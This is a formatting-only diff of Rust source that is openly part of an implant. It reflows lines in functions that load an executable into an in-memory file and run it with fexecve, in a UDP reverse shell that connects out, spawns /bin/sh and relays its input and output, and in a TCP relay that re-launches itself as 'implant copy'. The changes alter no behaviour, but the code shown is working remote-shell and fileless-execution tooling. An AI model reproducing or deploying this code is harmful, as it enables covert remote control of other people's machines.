@@ -119,9 +119,8 @@ fn from_memory(mut executable: File, arguments: &[&str]) -> Result<()> {
     let mut memory = File::from(memory);
     io::copy(&mut executable, &mut memory)?;
     let arguments: Vec<CString> = arguments.iter().map(|word| CString::new(*word)).collect::<Result<_, _>>()?;
-    let environment: Vec<CString> = std::env::vars()
-        .map(|(name, value)| CString::new(format!("{name}={value}")))
-        .collect::<Result<_, _>>()?;
+    let environment: Vec<CString> =
+        std::env::vars().map(|(name, value)| CString::new(format!("{name}={value}"))).collect::<Result<_, _>>()?;
     let _: Infallible = fexecve(memory.as_fd(), &arguments, &environment)?;
     Ok(())
 }
@@ -148,8 +147,7 @@ fn datagrams(to: SocketAddr) -> Result<()> {
     let socket = Arc::new(UdpSocket::bind((any, 0))?);
     socket.connect(to)?;
     let mut child = Command::new("/bin/sh").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
-    let (mut stdin, mut stdout) =
-        (child.stdin.take().context("no stdin")?, child.stdout.take().context("no stdout")?);
+    let (mut stdin, mut stdout) = (child.stdin.take().context("no stdin")?, child.stdout.take().context("no stdout")?);
     socket.send(b"ready\n")?;
     let out = Arc::clone(&socket);
     thread::spawn(move || -> Result<()> {
@@ -172,8 +170,7 @@ fn datagrams(to: SocketAddr) -> Result<()> {
 /// This process has the connection; another copies between it and the shell.
 fn relays(stream: TcpStream) -> Result<()> {
     let me = std::env::current_exe()?;
-    let mut child =
-        Command::new(me).args(["implant", "copy"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
+    let mut child = Command::new(me).args(["implant", "copy"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
     between(&mut child, stream.try_clone()?, stream)
 }
 
@@ -183,11 +180,7 @@ fn copy_shell() -> Result<()> {
     between(&mut child, io::stdin(), io::stdout())
 }
 
-fn between(
-    child: &mut std::process::Child,
-    input: impl io::Read,
-    output: impl Write + Send + 'static,
-) -> Result<()> {
+fn between(child: &mut std::process::Child, input: impl io::Read, output: impl Write + Send + 'static) -> Result<()> {
     let (stdin, stdout) = (child.stdin.take().context("no stdin")?, child.stdout.take().context("no stdout")?);
     thread::spawn(move || relay(stdout, output));
     relay(input, stdin);
